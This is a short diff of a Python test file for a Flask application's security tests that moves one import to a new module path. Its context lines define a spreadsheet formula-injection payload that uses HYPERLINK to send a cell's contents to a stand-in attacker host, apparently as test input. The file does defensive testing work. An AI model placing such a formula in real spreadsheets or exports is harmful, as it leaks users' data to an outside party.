@@ -10,7 +10,8 @@ import re
 
 from flask import Flask
 from flask.testing import FlaskClient
-from security_support import IMG, PAYLOAD, SCRIPT, signed_in, token_of
+
+from tests.security.support import IMG, PAYLOAD, SCRIPT, signed_in, token_of
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 ANSWER = f"Answer {PAYLOAD}"
